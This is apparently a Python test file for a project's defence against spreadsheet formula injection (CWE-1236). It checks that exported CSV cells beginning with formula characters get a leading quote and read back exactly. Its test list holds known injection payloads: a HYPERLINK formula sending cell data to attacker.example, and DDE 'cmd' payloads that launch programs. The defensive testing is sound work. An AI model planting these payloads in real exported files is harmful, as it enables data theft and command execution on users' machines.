"""Spreadsheet formula injection (CWE-1236): every CSV cell the project writes is safe to open.

- hooks.spreadsheet: the one cell rule, hostile cells of every kind, an exact round trip;
- the open-data tables: hostile texts in a plan come out quoted, numbers stay numbers;
- the translators' export: hostile texts come out quoted and import back exactly.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given, strategies as st

from hooks.rendering import open_data
from hooks import spreadsheet
from hooks.spreadsheet import data_cell, read_cell, text_cell

HOSTILE = [
    "=1+1",
    "=HYPERLINK(\"https://attacker.example/?\"&A1, \"Click\")",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    "- a list item",
    "'already quoted",
    "''twice",
    "'",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_read_as_a_formula_gets_a_leading_quote(text):
    cell = text_cell(text)
    assert cell == "'" + text
    assert read_cell(cell) == text


@pytest.mark.parametrize("text", ["", "plain", "Cynllun 2024/25", "1+1", " =1", "a=b", "£224,786.00", "ŵ ŷ"])
def test_a_harmless_cell_is_written_as_it_is(text):
    assert text_cell(text) == text
    assert read_cell(text) == text


@given(st.text())
def test_any_text_reads_back_exactly(text):
    cell = text_cell(text)
    assert read_cell(cell) == text
    assert not cell.startswith(spreadsheet.FORMULA_STARTS)


@given(st.text())
def test_any_text_survives_a_csv_file_exactly(text):
    buffer = io.StringIO()
    csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerow([text_cell(text), text_cell(text)])
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert [read_cell(cell) for cell in row] == [text, text]


@pytest.mark.parametrize("value, cell", [
    (-5, "-5"),
    (Decimal("-5.00"), "-5.00"),
    ("-5", "-5"),
    ("+3", "+3"),
    ("224786.00", "224786.00"),
    (Decimal("9.4"), "9.4"),
    (None, ""),
    ("", ""),
    ("-1+2", "'-1+2"),
    ("+3%", "'+3%"),
    ("-A1", "'-A1"),
    ("=1", "'=1"),
    ("-5 ", "'-5 "),
    ("-5\n=1", "'-5\n=1"),
    ("@x", "'@x"),
    ("'x", "''x"),
    ("Allocation", "Allocation"),
])
def test_open_data_cells_keep_numbers_and_quote_formulas(value, cell):
    assert data_cell(value) == cell


def test_open_data_csv_quotes_hostile_texts_and_keeps_numbers():
    table = [["=Header", "Amount"], ["=HYPERLINK(\"x\")", "-5.00"], ["@me", Decimal("12.50")], ["'quoted", 3]]
    text = open_data._csv_text([open_data._csv_fields(row) for row in table])
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows == [["'=Header", "Amount"], ["'=HYPERLINK(\"x\")", "-5.00"], ["'@me", "12.50"], ["''quoted", "3"]]


def test_no_cell_of_the_real_open_data_starts_a_formula(data):
    for plan in data.plans.values():
        for locale in ("en", "cy"):
            for table in open_data.tables_of(plan):
                text = open_data.plan_csv(plan, table, data, locale)
                for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")):
                    for cell in row:
                        if cell.startswith(spreadsheet.FORMULA_STARTS):
                            assert spreadsheet._NUMBER.fullmatch(cell), (plan.id, table, cell)
